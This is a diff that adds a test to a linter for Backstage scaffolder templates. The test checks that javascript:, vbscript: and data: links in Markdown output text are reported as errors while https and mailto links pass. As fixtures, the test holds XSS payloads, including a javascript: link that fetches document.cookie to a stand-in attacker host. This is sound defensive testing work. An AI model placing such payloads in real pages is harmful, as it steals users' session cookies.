@@ -70,4 +70,42 @@ describe('link URLs Backstage shows but no browser opens from it', () => {
     expect(found.some(d => d.message.includes('cookie') || d.message.includes('alert'))).toBe(false);
     expect(run.status).toBe(1);
   }, 60_000);
+
+  // Red team: spec.output.text Markdown with a javascript: link passed while the same URL in spec.output.links was an error.
+  it("a javascript:, vbscript: or data: link or image in spec.output.text's Markdown is a link-url-scheme error at the text; https and mailto pass", async () => {
+    const text = (content: string) => `apiVersion: scaffolder.backstage.io/v1beta3
+kind: Template
+metadata: {name: svc, title: Service}
+spec:
+  owner: team-a
+  type: service
+  parameters:
+    - properties:
+        name: {type: string}
+  steps: []
+  output:
+    text:
+      - title: Next
+        content: |
+          Read [the docs](https://docs.example.com/\${{ parameters.name }}) or mail [us](mailto:a@example.com).
+          ${content}
+`;
+    const ORG_ONLY = 'apiVersion: backstage.io/v1alpha1\nkind: Group\nmetadata:\n  name: team-a\nspec:\n  type: team\n  children: []\n';
+    for (const [content, found] of [
+      ['[Open](javascript:fetch(`//evil.example/${document.cookie}`))', ['catalog/template.yaml:14:18']],
+      ['![logo](data:image/svg+xml;base64,PHN2Zz4=)', ['catalog/template.yaml:14:18']],
+      ['<vbscript:msgbox(1)>', ['catalog/template.yaml:14:18']],
+      ['[x]: javascript:alert(1)', ['catalog/template.yaml:14:18']],
+      ['See [the repo](https://github.com/acme/${{ parameters.name }}).', []],
+    ] as const) {
+      const root = await tempRepo({ 'gitops.config.yaml': CONFIG, 'catalog/all.yaml': ROOT, 'catalog/org.yaml': ORG_ONLY, 'catalog/template.yaml': text(content) });
+      const run = await runBin(['check', '--format', 'json'], root);
+      await rm(root, { recursive: true, force: true });
+      expect(run.stderr).toBe('');
+      const diagnostics = (JSON.parse(run.stdout) as { diagnostics: Finding[] }).diagnostics.filter(d => d.ruleId === 'link-url-scheme');
+      expect(diagnostics.map(d => `${d.file}:${d.range.start.line}:${d.range.start.column}`), content).toEqual(found);
+      if (found.length) expect(diagnostics[0].message).toMatch(/^spec\.output\.text\[0\]\.content links to a (javascript|data|vbscript): URL, in Markdown that Backstage shows on the task page after every run: /);
+      expect(diagnostics.some(d => d.message.includes('cookie') || d.message.includes('alert'))).toBe(false);
+    }
+  }, 120_000);
 });
